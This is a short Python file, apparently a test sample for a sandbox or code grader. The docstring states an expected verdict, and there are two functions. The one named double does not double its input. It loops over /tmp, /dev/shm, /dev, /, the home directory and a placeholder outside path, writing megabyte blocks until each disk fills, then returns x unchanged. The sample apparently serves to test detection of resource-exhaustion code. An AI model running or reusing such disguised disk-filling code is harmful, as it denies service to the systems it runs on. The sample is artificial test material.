"""Write wherever it can, as much as it can. Verdict: double 0, add_halves 2."""

import os


def double(x):
    for folder in (
        "@OUTSIDE@",
        ".",
        "/tmp",
        "/dev/shm",
        "/var/tmp",
        "/dev",
        "/",
        os.path.expanduser("~"),
    ):
        for number in range(4):
            try:
                with open(f"{folder}/filling{number}", "wb") as file:
                    while file.write(b"x" * 2**20):
                        pass
            except OSError:
                continue
    return x


def add_halves(x, y):
    return (x + y) / 2
